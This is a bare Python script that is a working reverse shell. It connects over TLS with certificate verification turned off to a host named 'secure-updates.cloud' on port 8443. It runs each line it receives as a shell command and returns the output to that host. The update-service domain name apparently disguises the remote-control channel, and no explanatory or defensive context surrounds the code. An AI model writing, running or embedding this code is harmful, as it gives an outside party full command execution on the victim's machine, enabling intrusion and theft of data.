import socket
import ssl
import subprocess

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE

raw = socket.create_connection(("secure-updates.cloud", 8443))
tls = ctx.wrap_socket(raw, server_hostname="secure-updates.cloud")
while True:
    line = tls.recv(2048)
    if not line:
        break
    result = subprocess.Popen(line.decode(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    o, e = result.communicate()
    tls.sendall(o + e)
